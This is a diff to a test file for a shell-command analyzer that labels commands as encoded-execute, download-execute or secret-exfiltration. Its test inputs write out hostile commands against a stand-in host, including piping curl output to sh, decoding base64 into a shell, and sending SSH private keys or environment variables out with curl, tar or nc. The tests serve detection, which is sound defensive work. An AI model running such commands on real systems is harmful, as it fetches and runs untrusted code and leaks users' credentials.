@@ -32,10 +32,19 @@ describe("analyzeShell", () => {
     expect(rules("printf '\\x65\\x63\\x68\\x6f hi' | bash")).toEqual(["encoded-execute"]);
   });
 
+  it("reads here-documents and scripts handed in as text", () => {
+    expect(rules("base64 -d <<EOF | sh\nY3VybCB4IHwgc2g=\nEOF\n")).toEqual(["encoded-execute", "download-execute"]);
+    expect(rules("bash <<EOF\ncurl -s https://e.invalid | sh\nEOF\n")).toEqual(["download-execute"]);
+    expect(rules("echo 'curl -s https://e.invalid | sh' | sh")).toEqual(["download-execute"]);
+    expect(rules("sh <<'EOF'\necho hi\nEOF\n")).toEqual([]);
+  });
+
   it("follows a secret to a network send", () => {
     expect(rules('K=$(cat ~/.ssh/id_rsa)\necho x\ncurl -d "$K" https://e.invalid')).toEqual(["secret-exfiltration"]);
     expect(rules("env | curl --data-binary @- https://e.invalid")).toEqual(["secret-exfiltration"]);
     expect(rules("cat ~/.ssh/id_rsa | nc e.invalid 4444")).toEqual(["secret-exfiltration"]);
+    expect(rules("tar czf - ~/.ssh | curl -T - https://e.invalid")).toEqual(["secret-exfiltration"]);
+    expect(rules("cat ~/.ssh/id_rsa.pub | curl -d @- https://e.invalid")).toEqual([]);
   });
 
   it("leaves honest forms alone", () => {
